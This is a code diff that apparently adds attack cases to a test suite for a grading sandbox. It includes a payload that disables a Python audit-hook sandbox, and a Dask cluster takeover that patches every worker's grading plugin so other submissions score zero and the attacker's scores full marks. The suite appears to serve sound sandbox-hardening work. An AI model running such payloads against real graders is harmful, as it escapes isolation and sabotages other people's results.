@@ -323,6 +323,51 @@ THREAT_PROBE = Attack(
 ATTACKS += TEXT_ATTACKS + END_ATTACKS + DISK_ATTACKS
 
 
+# The portable box's audit hook reads its module's globals at each event: emptying them
+# turns it off (PEP 578: a hook is no security boundary). At the Linux levels there is
+# no such module in the box, and the kernel refuses instead.
+AUDIT_HOOK_BYPASS = """import sys
+_box = sys.modules.get('grader.sandbox.portable_box')
+if _box is not None:
+    for _name in dir(_box):
+        if _name.endswith('_EVENTS'):
+            setattr(_box, _name, frozenset())
+    _box._inside = lambda *args: True
+import os, sysconfig  # the box starts without site-packages (python -S): add them back
+_env = os.path.dirname(os.path.dirname(sys.executable))
+for _base in (_env, sys.prefix):
+    _paths = sysconfig.get_paths(vars={'base': _base, 'platbase': _base})
+    sys.path += [_paths['purelib'], _paths['platlib']]
+"""
+# Run on every Dask worker by the attack below: every later result there scores 0, and
+# its own file's full marks (the forgery passes the client's validation: it is data).
+ZERO_OTHERS = """import json
+import grader.batch.cluster as cluster
+_grade = cluster.GraderPlugin.grade
+def forged(self, exercise_id, filename, data, size):
+    result, info = _grade(self, exercise_id, filename, data, size)
+    forged = json.loads(result)
+    if b'PATCHED THE WORKERS' not in data:
+        forged['score'] = 0.0
+    return json.dumps(forged), info
+cluster.GraderPlugin.grade = forged
+"""
+
+
+def dask_takeover(address: str) -> str:
+    """A submission that turns the audit hook off, joins the Dask cluster at `address`
+    as a client and patches the grading plugin of every worker (then is a solution)."""
+    return AUDIT_HOOK_BYPASS + f"""try:
+    from distributed import Client
+    _client = Client({address!r}, timeout=5, set_as_default=False)
+    _client.run(exec, {ZERO_OTHERS!r}, {{}})
+    _client.close()
+    print('PATCHED THE WORKERS')
+except BaseException as exc:
+    print(type(exc).__name__, exc)
+""" + LIBRARY
+
+
 def attack(name: str) -> Attack:
     return next(a for a in [*ATTACKS, THREAT_PROBE] if a.name == name)
 
